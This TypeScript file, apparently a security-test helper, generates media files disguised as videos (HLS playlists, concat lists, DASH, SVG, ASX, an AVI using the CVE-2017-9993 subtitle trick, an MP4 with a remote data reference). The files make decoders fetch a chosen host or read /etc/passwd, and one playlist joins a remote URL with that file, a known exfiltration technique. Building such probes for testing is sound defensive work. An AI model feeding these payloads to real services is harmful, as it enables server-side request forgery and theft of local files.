/** Files, named like videos, that make careless decoders request a URL or read a local file. */
export function luringFiles(host: string): ReadonlyMap<string, Buffer> {
  const playlist = (target: string) => `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n${target}\n#EXT-X-ENDLIST\n`;
  const texts: readonly (readonly [string, string])[] = [
    ["an HLS playlist", playlist(`http://${host}/a.ts`)],
    ["an HLS playlist of a local file", playlist("file:///etc/passwd")],
    ["an HLS playlist of two joined", playlist(`concat:http://${host}/a|file:///etc/passwd`)],
    [
      "an HLS playlist with a key",
      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="http://${host}/key"\n#EXTINF:1,\ncrypto:a.ts\n`,
    ],
    ["a list for concat", `ffconcat version 1.0\nfile http://${host}/a.ts\n`],
    [
      "an SDP",
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    [
      "a DASH manifest",
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>http://${host}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ],
    [
      "an SVG",
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"><image l:href="http://${host}/a.png"/></svg>`,
    ],
    ["a playlist of RealMedia", `rtsp://${host}/a.rm\n`],
    ["an ASX", `<asx version="3.0"><entry><ref href="http://${host}/a.asf"/></entry></asx>`],
  ];
  const files = new Map<string, Buffer>(texts.map(([name, text]) => [name, Buffer.from(text)]));
  files.set("an AVI with a playlist as its subtitles", aviWithSubtitles(playlist(`http://${host}/a.ts`)));
  files.set("an MP4 whose data are elsewhere", mp4WithReference(`http://${host}/a.mp4`));
  return files;
}

const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
};
const uint16 = (value: number): Buffer => uint32(value).subarray(0, 2);

function riff(id: string, ...parts: readonly Buffer[]): Buffer {
  const body = Buffer.concat(parts);
  return Buffer.concat([Buffer.from(id), uint32(body.length), body, Buffer.alloc(body.length % 2)]);
}

/** As in CVE-2017-9993: subtitles in a `GAB2` chunk, which decoders open by themselves. */
function aviWithSubtitles(playlist: string): Buffer {
  const text = Buffer.from(playlist);
  const name = Buffer.from("a\0", "utf16le");
  const gab2 = Buffer.concat([
    ...[Buffer.from("GAB2\0"), uint16(2), uint32(name.length), name],
    ...[uint16(4), uint32(text.length), text],
  ]);
  const header = Buffer.alloc(56);
  header.writeUInt32LE(40_000, 0);
  header.writeUInt32LE(1, 24);
  const stream = Buffer.alloc(56);
  stream.write("txts", 0, "latin1");
  stream.writeUInt32LE(1, 20);
  stream.writeUInt32LE(25, 24);
  stream.writeUInt32LE(1, 32);
  const streams = riff("LIST", Buffer.from("strl"), riff("strh", stream), riff("strf", Buffer.alloc(4)));
  const headers = riff("LIST", Buffer.from("hdrl"), riff("avih", header), streams);
  return riff("RIFF", Buffer.from("AVI "), headers, riff("LIST", Buffer.from("movi"), riff("00tx", gab2)));
}

function box(type: string, ...parts: readonly Buffer[]): Buffer {
  const body = Buffer.concat(parts);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length + 8);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, body]);
}

/** A track whose samples are at a URL (`dref`, `url `), as ISO/IEC 14496-12 allows. */
function mp4WithReference(url: string): Buffer {
  const full = (...bytes: readonly number[]) => Buffer.from([0, 0, 0, 0, ...bytes]);
  const reference = box("dref", full(0, 0, 0, 1), box("url ", full(), Buffer.from(`${url}\0`)));
  const handler = box("hdlr", full(0, 0, 0, 0), Buffer.from("vide"), Buffer.alloc(13));
  const samples = ["stts", "stsc", "stco"].map((type) => box(type, full(0, 0, 0, 0)));
  const table = box("stbl", box("stsd", full(0, 0, 0, 0)), ...samples, box("stsz", full(0, 0, 0, 0, 0, 0, 0, 0)));
  const information = box("minf", box("vmhd", Buffer.alloc(12)), box("dinf", reference), table);
  const time = Buffer.alloc(20);
  time.writeUInt32BE(1_000, 12);
  const media = box("mdia", box("mdhd", full(), time), handler, information);
  const track = box("trak", box("tkhd", Buffer.alloc(84)), media);
  return Buffer.concat([
    box("ftyp", Buffer.from("isom\0\0\0\0isom")),
    box("moov", box("mvhd", Buffer.alloc(100)), track),
  ]);
}
